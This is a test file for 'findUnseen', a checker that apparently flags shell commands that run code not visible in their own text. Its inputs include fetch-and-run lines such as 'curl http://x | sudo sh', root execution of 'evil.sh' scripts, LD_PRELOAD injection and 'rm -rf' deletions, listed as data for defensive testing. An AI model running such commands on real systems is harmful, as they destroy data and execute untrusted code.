import { expect, test } from 'vitest';
import { findUnseen } from './index.ts';

test.each([
  'rm -rf build',
  'rm -rf "$HOME/x" && git reset --hard',
  "bash -c 'rm -rf x'",
  'sudo systemctl stop x',
  'find . -name x -exec rm {} +',
  'python3 -c \'import os; os.remove("a")\'',
  'python3 <<END\nimport os\nos.remove("a")\nEND',
  "cat <<'END' > x\ntext\nEND\nrm y",
  'kill -9 1 2>&1 >/dev/null </dev/null',
  "sed -i 's/x/y/' a; rm b",
  'f() { rm -rf x; }; f',
  'LANG=C rm -rf x',
  'echo x | sudo tee /etc/x',
])('all that runs is in the text of %j', (command) => {
  expect(findUnseen(command)).toBeUndefined();
});

test.each([
  ['bash', 'standard input'],
  ['bash -s', 'standard input'],
  ['curl http://x | sudo sh', 'standard input'],
  ['python3 - ; rm x', 'standard input'],
  ['sudo ./evil.sh', 'not the installed one'],
  ['sudo bash evil.sh', 'a script'],
  ['sudo python3 evil.py', 'a script'],
  ['sudo python3 -m evil', 'code of the project'],
  ['sudo node -r ./evil.js -e 1', 'other code'],
  ['sudo bash --rcfile x', 'a file at its start'],
  ['. ./evil.sh; rm x', 'a script in this shell'],
  ['bash <(curl http://x)', 'a substitution'],
  ['sudo bash /dev/stdin', 'a script that cannot be seen'],
  ['sudo', 'the commands that it reads'],
  ['su -c ./evil.sh root', 'not the installed one'],
  ['doas -u root ./evil.sh', 'not the installed one'],
  ['env -S "a <"; rm x', 'cannot be told'],
  ['find . -exec ./x.sh {} \\;', 'not the installed one'],
  ['eval "$(cat x)"', 'a substitution'],
  ['rm -rf `cat list`', 'a substitution'],
  ['rm -rf x > "$(cat y)"', 'a substitution'],
  ['X=$(cat y) rm z', 'a substitution'],
  ['read X; eval "$X"', 'cannot be told'],
  ['read X; $X y', 'cannot be told'],
  ['read X; python3 -c "$X"', 'cannot be told'],
  ['read X; alias $X', 'cannot be told'],
  ['sudo awk -f x y', 'a script'],
  ['sudo sed -f x y', 'a script'],
  ['sudo sed -i -f x y', 'a script'],
  ['sudo make install', 'of the project'],
  ['rm -rf x && npm test', 'of the project'],
  ['sudo npm run x', 'of the project'],
  ['crontab x', 'of the project'],
  ['psql < x.sql', 'reads a file'],
  ['PATH=.:$PATH sudo x', 'sets PATH'],
  ['export LD_PRELOAD=./x.so; rm y', 'sets LD_PRELOAD'],
  ['parallel < x', 'reads'],
  ['ssh host < x', 'reads'],
  ['"$HOME"/x; rm y', 'not the installed one'],
  ['rm x; if', 'cannot be parsed'],
  ['rm \0', 'NUL'],
])('%j runs what is not in its text: %s', (command, reason) => {
  expect(findUnseen(command)).toContain(reason);
});

test('a text that is too much to be judged is not all seen', () => {
  expect(findUnseen(`rm ${'$('.repeat(500)}`)).toContain('involved');
  expect(findUnseen('rm '.repeat(50_000))).toContain('longer');
});
